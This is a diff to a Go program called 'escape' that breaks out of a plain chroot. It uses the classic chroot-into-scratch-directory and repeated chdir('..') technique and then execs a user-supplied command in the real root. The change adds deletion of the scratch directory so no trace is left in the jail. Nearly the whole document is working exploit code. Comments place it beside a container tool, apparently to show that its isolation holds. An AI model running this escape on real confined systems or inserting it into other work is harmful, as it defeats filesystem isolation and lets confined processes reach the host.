@@ -8,6 +8,8 @@
 // It needs CAP_SYS_CHROOT, which root inside a plain chroot still has. Under
 // `contain run` (a mount namespace and pivot_root) the same steps only reach
 // the container's own root, and escape says so and exits with status 1.
+// Either way it leaves nothing behind: its scratch directory is removed
+// before it climbs.
 package main
 
 import (
@@ -22,22 +24,37 @@ import (
 // breakOut moves the process's root to the topmost directory it can reach.
 // The steps, in order:
 //
-//  1. mkdir a scratch directory and chroot(2) into it. The kernel changes the
-//     root but not the working directory, so "." is now outside the root.
-//  2. chdir("..") many times. The kernel only stops ".." at the process's
-//     root, and we are already outside it, so this climbs to the real "/".
-//  3. chroot(".") makes that directory the root again.
+//  1. chdir to a writable directory and mkdir a scratch directory in it.
+//  2. chroot(2) into the scratch directory. The kernel changes the root but
+//     not the working directory, so "." is now outside the root.
+//  3. rmdir the scratch directory, by its name relative to ".", which still
+//     reaches it. Nothing is left in the jail; the root is now a deleted
+//     directory, which is fine, since we are leaving it.
+//  4. chdir("..") many times. The kernel stops ".." only at the process's
+//     root and at the root of the mount namespace (path_resolution(7)); we
+//     are outside the first, so this climbs to the second, the real "/".
+//  5. chroot(".") makes that directory the root again.
 func breakOut() error {
-	scratch, err := os.MkdirTemp("/tmp", "escape-")
-	if err != nil {
-		// /tmp may be missing or read-only; any writable directory works.
-		if scratch, err = os.MkdirTemp("/", "escape-"); err != nil {
-			return fmt.Errorf("mkdir scratch directory: %w", err)
+	// /tmp may be missing or read-only; any writable directory works.
+	var scratch string
+	var err error
+	for _, dir := range []string{"/tmp", "/"} {
+		if err = unix.Chdir(dir); err != nil {
+			continue
+		}
+		if scratch, err = os.MkdirTemp(".", "escape-"); err == nil {
+			break
 		}
 	}
-	defer os.Remove(scratch)
+	if err != nil {
+		return fmt.Errorf("mkdir scratch directory: %w", err)
+	}
 	if err := unix.Chroot(scratch); err != nil {
+		unix.Rmdir(scratch)
 		return fmt.Errorf("chroot %s: %w", scratch, err)
+	}
+	if err := unix.Rmdir(scratch); err != nil {
+		return fmt.Errorf("rmdir %s: %w", scratch, err)
 	}
 	for i := 0; i < 256; i++ {
 		if err := unix.Chdir(".."); err != nil {
@@ -59,6 +76,12 @@ func rootID() (string, error) {
 	return fmt.Sprintf("%d:%d", st.Dev, st.Ino), nil
 }
 
+// fail prints one line and exits with status code.
+func fail(code int, format string, args ...any) {
+	fmt.Fprintf(os.Stderr, "escape: "+format+"\n", args...)
+	os.Exit(code)
+}
+
 func main() {
 	argv := os.Args[1:]
 	if len(argv) == 0 {
@@ -66,31 +89,25 @@ func main() {
 	}
 	before, err := rootID()
 	if err != nil {
-		fmt.Fprintln(os.Stderr, "escape: stat /:", err)
-		os.Exit(1)
+		fail(1, "stat /: %v", err)
 	}
 	if err := breakOut(); err != nil {
-		fmt.Fprintln(os.Stderr, "escape:", err)
-		os.Exit(1)
+		fail(1, "%v", err)
 	}
 	after, err := rootID()
 	if err != nil {
-		fmt.Fprintln(os.Stderr, "escape: stat /:", err)
-		os.Exit(1)
+		fail(1, "stat /: %v", err)
 	}
 	if before == after {
-		fmt.Fprintln(os.Stderr, "escape: failed: .. stops at this root, there is nothing above it")
-		os.Exit(1)
+		fail(1, "failed: .. stops at this root, there is nothing above it")
 	}
 	fmt.Fprintln(os.Stderr, "escape: out of the chroot, running", argv[0], "in the real root")
 	// Look the command up only now: "/" has changed, and so has what PATH
 	// names.
 	path, err := exec.LookPath(argv[0])
 	if err != nil {
-		fmt.Fprintln(os.Stderr, "escape:", err)
-		os.Exit(127)
+		fail(127, "%v", err)
 	}
 	err = syscall.Exec(path, argv, os.Environ())
-	fmt.Fprintf(os.Stderr, "escape: exec %s: %v\n", argv[0], err)
-	os.Exit(127)
+	fail(127, "exec %s: %v", argv[0], err)
 }
